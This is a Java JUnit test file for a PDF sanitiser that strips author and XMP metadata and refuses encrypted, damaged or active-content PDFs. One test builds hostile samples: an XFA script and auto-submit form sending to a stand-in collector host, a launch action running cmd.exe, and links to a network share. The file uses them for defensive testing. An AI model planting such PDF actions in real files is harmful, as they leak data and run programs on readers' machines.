package org.passage.cases.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Calendar;
import java.util.List;
import java.util.function.Consumer;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDMetadata;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.junit.jupiter.api.Test;

/**
 * PDFs lose their Info dictionary and XMP metadata and keep their pages; encrypted PDFs and PDFs with scripts
 * or embedded files are refused with a message saying so; a damaged PDF is refused, never stored half-read.
 */
class PdfMetadataTests {

    @Test
    void infoAndXmpAreRemovedAndThePagesKept() throws Exception {
        byte[] original = pdf(document -> {
            var info = document.getDocumentInformation();
            info.setAuthor("Petrov Ivan");
            info.setCreator("Scanner of the Kazan office");
            info.setCreationDate(Calendar.getInstance());
            try {
                var xmp = new PDMetadata(document, new ByteArrayInputStream(
                        "<x:xmpmeta xmlns:x='adobe:ns:meta/'><gps>55.79,49.12</gps></x:xmpmeta>".getBytes(StandardCharsets.UTF_8)));
                document.getDocumentCatalog().setMetadata(xmp);
                document.getPage(0).setMetadata(xmp);
            } catch (java.io.IOException e) {
                throw new IllegalStateException(e);
            }
        });
        assertThat(latin1(original)).contains("Petrov Ivan");

        byte[] clean = PdfMetadata.strip(original);

        assertThat(latin1(clean)).doesNotContain("Petrov").doesNotContain("Kazan").doesNotContain("55.79");
        try (PDDocument reread = Loader.loadPDF(clean)) {
            assertThat(reread.getNumberOfPages()).isEqualTo(2);
            assertThat(reread.getDocumentInformation().getAuthor()).isNull();
            assertThat(reread.getDocumentCatalog().getMetadata()).isNull();
            assertThat(reread.getPage(0).getMetadata()).isNull();
        }
    }

    @Test
    void encryptedPdfsAreRefused() throws Exception {
        for (String userPassword : List.of("", "secret")) {
            byte[] encrypted = pdf(document -> {
                try {
                    var policy = new StandardProtectionPolicy("owner", userPassword, new AccessPermission());
                    policy.setEncryptionKeyLength(128);
                    document.protect(policy);
                } catch (java.io.IOException e) {
                    throw new IllegalStateException(e);
                }
            });
            assertThatThrownBy(() -> PdfMetadata.strip(encrypted)).isInstanceOf(InvalidCaseInput.class)
                    .hasMessage("cases.documents.error.pdfEncrypted");
        }
    }

    @Test
    void scriptsAndEmbeddedFilesAreRefused() throws Exception {
        byte[] script = pdf(document -> document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('hi')")));
        assertThatThrownBy(() -> PdfMetadata.strip(script)).isInstanceOf(InvalidCaseInput.class)
                .hasMessage("cases.documents.error.pdfActive");

        byte[] attachment = pdf(document -> {
            try {
                var file = new PDEmbeddedFile(document, new ByteArrayInputStream("hidden".getBytes(StandardCharsets.UTF_8)));
                var spec = new PDComplexFileSpecification();
                spec.setFile("hidden.txt");
                spec.setEmbeddedFile(file);
                var tree = new PDEmbeddedFilesNameTreeNode();
                tree.setNames(java.util.Map.of("hidden.txt", spec));
                var names = new PDDocumentNameDictionary(document.getDocumentCatalog());
                names.setEmbeddedFiles(tree);
                document.getDocumentCatalog().setNames(names);
            } catch (java.io.IOException e) {
                throw new IllegalStateException(e);
            }
        });
        assertThatThrownBy(() -> PdfMetadata.strip(attachment)).isInstanceOf(InvalidCaseInput.class)
                .hasMessage("cases.documents.error.pdfActive");
    }

    /** Each active content the red team slipped through: every one refused with the message that says why. */
    @Test
    void formsThatSendDataLinksRemoteFilesAndXfaScriptsAreRefused() throws Exception {
        var hostile = new java.util.LinkedHashMap<String, byte[]>();
        hostile.put("XFA form with a script", pdf(document -> {
            var form = new org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm(document);
            var xfa = document.getDocument().createCOSStream();
            try (var out = xfa.createOutputStream()) {
                out.write(("<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template><subform><event activity='initialize'>"
                        + "<script contentType='application/x-javascript'>xfa.host.gotoURL('https://collector.example/')</script>"
                        + "</event></subform></template></xdp:xdp>").getBytes(StandardCharsets.UTF_8));
            } catch (java.io.IOException e) {
                throw new IllegalStateException(e);
            }
            form.setXFA(new org.apache.pdfbox.pdmodel.interactive.form.PDXFAResource(xfa));
            document.getDocumentCatalog().setAcroForm(form);
        }));
        hostile.put("open action submitting a form", pdf(document -> {
            var submit = new org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm();
            submit.setFile(simpleFile("https://collector.example/in"));
            document.getDocumentCatalog().setOpenAction(submit);
        }));
        hostile.put("launch action", pdf(document -> {
            var launch = new org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch();
            launch.setFile(simpleFile("cmd.exe"));
            document.getDocumentCatalog().setOpenAction(launch);
        }));
        hostile.put("link opening a web address", pdf(document -> link(document,
                uri("https://collector.example/?case=1"))));
        hostile.put("open action opening a web address", pdf(document -> document.getDocumentCatalog().setOpenAction(
                uri("https://collector.example/"))));
        hostile.put("link to a file on a network share", pdf(document -> {
            var remote = new org.apache.pdfbox.pdmodel.interactive.action.PDActionRemoteGoTo();
            remote.setFile(simpleFile("\\\\10.6.6.6\\share\\x.pdf"));
            link(document, remote);
        }));
        hostile.put("file specification with a URL", pdf(document -> {
            var spec = new PDComplexFileSpecification();
            spec.setFile("smb://10.6.6.6/share/x.pdf");
            spec.getCOSObject().setItem(org.apache.pdfbox.cos.COSName.getPDFName("FS"), org.apache.pdfbox.cos.COSName.getPDFName("URL"));
            document.getPage(0).getCOSObject().setItem(org.apache.pdfbox.cos.COSName.getPDFName("Thumb"), spec);
        }));
        for (var file : hostile.entrySet()) {
            assertThatThrownBy(() -> PdfMetadata.strip(file.getValue())).as(file.getKey()).isInstanceOf(InvalidCaseInput.class)
                    .hasMessage("cases.documents.error.pdfActive");
        }
        // a plain link inside the document stays acceptable
        byte[] inside = pdf(document -> {
            var goTo = new org.apache.pdfbox.pdmodel.interactive.action.PDActionGoTo();
            var destination = new org.apache.pdfbox.pdmodel.interactive.documentnavigation.destination.PDPageFitDestination();
            destination.setPage(document.getPage(1));
            goTo.setDestination(destination);
            link(document, goTo);
        });
        assertThat(PdfMetadata.strip(inside)).isNotEmpty();
    }

    private static org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification simpleFile(String name) {
        var file = new org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification();
        file.setFile(name);
        return file;
    }

    private static org.apache.pdfbox.pdmodel.interactive.action.PDActionURI uri(String address) {
        var uri = new org.apache.pdfbox.pdmodel.interactive.action.PDActionURI();
        uri.setURI(address);
        return uri;
    }

    private static void link(PDDocument document, org.apache.pdfbox.pdmodel.interactive.action.PDAction action) {
        var link = new org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink();
        link.setRectangle(new org.apache.pdfbox.pdmodel.common.PDRectangle(10, 10, 100, 20));
        link.setAction(action);
        try {
            document.getPage(0).getAnnotations().add(link);
        } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
        }
    }

    @Test
    void aDamagedPdfIsRefused() {
        byte[] damaged = "%PDF-1.7\nthis is not a pdf at all".getBytes(StandardCharsets.US_ASCII);
        assertThatThrownBy(() -> PdfMetadata.strip(damaged)).isInstanceOf(InvalidCaseInput.class)
                .hasMessage("cases.documents.error.broken");
    }

    /** A two-page PDF, changed by {@code prepare} before it is saved. */
    static byte[] pdf(Consumer<PDDocument> prepare) throws Exception {
        try (PDDocument document = new PDDocument()) {
            document.addPage(new PDPage());
            document.addPage(new PDPage());
            prepare.accept(document);
            var out = new ByteArrayOutputStream();
            document.save(out, CompressParameters.NO_COMPRESSION);
            return out.toByteArray();
        }
    }

    private static String latin1(byte[] bytes) {
        return new String(bytes, StandardCharsets.ISO_8859_1);
    }
}
